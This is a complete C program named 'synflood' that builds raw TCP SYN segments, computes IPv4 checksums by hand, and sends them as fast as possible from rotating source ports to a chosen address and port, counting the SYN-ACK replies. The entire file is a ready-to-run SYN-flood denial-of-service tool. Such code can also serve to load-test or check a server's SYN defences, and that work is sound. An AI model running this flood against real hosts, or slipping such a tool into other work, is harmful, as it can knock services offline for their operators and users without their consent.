// SPDX-License-Identifier: Apache-2.0
//
// Opens TCP connections as fast as it can, each from another port, and never goes on with one: a SYN each, past the
// kernel's own TCP, which resets what answers.
//
//   synflood ADDRESS PORT COUNT
//
// Prints "sent N answered N": answered counts SYN and ACK segments that came back.
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { FIRST_PORT = 1024, PORTS = 64512, CHECKSUM_OFFSET = 16, SETTLE_US = 200000 };

struct pseudo_header {
	struct in_addr source, destination;
	uint8_t zero, protocol;
	uint16_t length;
};

static struct sockaddr_storage local, peer;
static long answered;

static void fail(const char *what)
{
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

// A raw socket towards the peer. The kernel sums up IPv6's checksums, and not IPv4's.
static int open_towards(const char *address)
{
	socklen_t size = sizeof(local);
	int offset = CHECKSUM_OFFSET;

	peer.ss_family = AF_INET;
	if (inet_pton(AF_INET, address, &((struct sockaddr_in *)&peer)->sin_addr) != 1) {
		peer.ss_family = AF_INET6;
		if (inet_pton(AF_INET6, address, &((struct sockaddr_in6 *)&peer)->sin6_addr) != 1)
			fail(address);
	}
	int fd = socket(peer.ss_family, SOCK_RAW, IPPROTO_TCP);

	if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof(peer)) < 0 ||
		getsockname(fd, (struct sockaddr *)&local, &size) < 0)
		fail("socket");
	if (peer.ss_family == AF_INET6 &&
		setsockopt(fd, IPPROTO_IPV6, IPV6_CHECKSUM, &offset, sizeof(offset)) < 0)
		fail("checksum");
	return fd;
}

static uint32_t sum(const void *bytes, size_t length, uint32_t begun)
{
	for (size_t at = 0; at < length; at += 2) {
		uint16_t word;

		memcpy(&word, (const char *)bytes + at, 2);
		begun += word;
	}
	return begun;
}

static uint16_t checksum4(const struct tcphdr *segment)
{
	struct pseudo_header head = {
		.source = ((struct sockaddr_in *)&local)->sin_addr,
		.destination = ((struct sockaddr_in *)&peer)->sin_addr,
		.protocol = IPPROTO_TCP,
		.length = htons(sizeof(*segment)),
	};
	uint32_t total = sum(segment, sizeof(*segment), sum(&head, sizeof(head), 0));

	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return (uint16_t)~total;
}

static void send_syn(int fd, int port, long number)
{
	struct tcphdr segment = {
		.source = htons((uint16_t)(FIRST_PORT + number % PORTS)),
		.dest = htons((uint16_t)port),
		.seq = htonl((uint32_t)number),
		.doff = sizeof(segment) / 4,
		.syn = 1,
		.window = htons(1024),
	};

	if (peer.ss_family == AF_INET)
		segment.check = checksum4(&segment);
	send(fd, &segment, sizeof(segment), 0);
}

static void count_answers(int fd, int port)
{
	char bytes[256];
	ssize_t length;

	while ((length = recv(fd, bytes, sizeof(bytes), MSG_DONTWAIT)) > 0) {
		ssize_t head = peer.ss_family == AF_INET ? (bytes[0] & 15) * 4 : 0;
		struct tcphdr segment;

		if (length - head < (ssize_t)sizeof(segment))
			continue;
		memcpy(&segment, bytes + head, sizeof(segment));
		answered += segment.syn && segment.ack && segment.source == htons((uint16_t)port);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: synflood ADDRESS PORT COUNT\n");
		return 2;
	}
	int fd = open_towards(argv[1]), port = atoi(argv[2]);
	long count = atol(argv[3]);

	for (long number = 0; number < count; number++) {
		send_syn(fd, port, number);
		count_answers(fd, port);
	}
	usleep(SETTLE_US);
	count_answers(fd, port);
	printf("sent %ld answered %ld\n", count, answered);
	return 0;
}
